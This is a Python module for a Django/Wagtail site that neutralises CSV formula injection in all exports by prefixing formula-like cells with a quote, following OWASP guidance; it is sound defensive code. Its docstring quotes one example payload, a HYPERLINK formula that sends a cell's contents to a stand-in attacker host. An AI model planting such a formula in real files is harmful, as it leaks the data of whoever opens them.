"""The one CSV writer of every export (audit trail, points statement, import error reports, the
staff exports of the Wagtail admin): cells a spreadsheet would run as a formula are neutralised.

A customer, a token holder or an attacker controls much of what ends up in these files (a
rejected request's User-Agent, a ledger reason, a cell of an uploaded CSV). Opened in Excel or
LibreOffice, a cell such as ``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run.
Following OWASP ("CSV Injection"), such a cell gets a leading single quote, which spreadsheets
show as text and do not evaluate.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Iterator
from typing import Any

from django.http import StreamingHttpResponse
from wagtail.admin.views.generic import IndexView

# A spreadsheet starts a formula (or, for \t and \r, may strip them and then start one) with these.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# An optionally signed decimal number, as spreadsheets read it: "-12.5", "+3", "1e-5", ".5".
PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(value: Any) -> Any:
    """One cell, safe to open in a spreadsheet.

    The rule: a text value that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
    return gets a leading ``'``, unless the whole text is a plain decimal number (``-12.5``,
    ``+3``, ``1e-5``), which a spreadsheet reads as that number and never as a formula: the
    points statement's negative deltas stay numbers. Values that are not text (int, Decimal,
    dates, None) are returned unchanged: their text form cannot start a formula except with a
    minus sign, which then is a plain number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        if PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


class _Echo:
    """A file that hands back what is written, so rows can be streamed."""

    def write(self, value: str) -> str:
        return value


class SafeWriter:
    """`csv.writer` whose every cell goes through `neutralise()`."""

    def __init__(self, stream: Any = None, **fmtparams: Any) -> None:
        self._writer = csv.writer(stream if stream is not None else _Echo(), **fmtparams)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """Each row as one neutralised CSV line, for a streaming response."""
    writer = SafeWriter()
    for row in rows:
        yield writer.writerow(row)


def streaming_csv_response(rows: Iterable[Iterable[Any]], filename: str) -> StreamingHttpResponse:
    """A UTF-8 CSV download of `rows` (the header row first), streamed as it is read."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


class SafeExportIndexView(IndexView):
    """Wagtail's listing view whose CSV export neutralises formulas like every other export.

    Wagtail's own XLSX export already stores formula-looking text as text; its CSV export writes
    cells as they are. Every viewset with `list_export` uses this as its `index_view_class`."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                name: neutralise(self.preprocess_field_value(name, value, self.FORMAT_CSV))
                for name, value in row_dict.items()
            }
        )
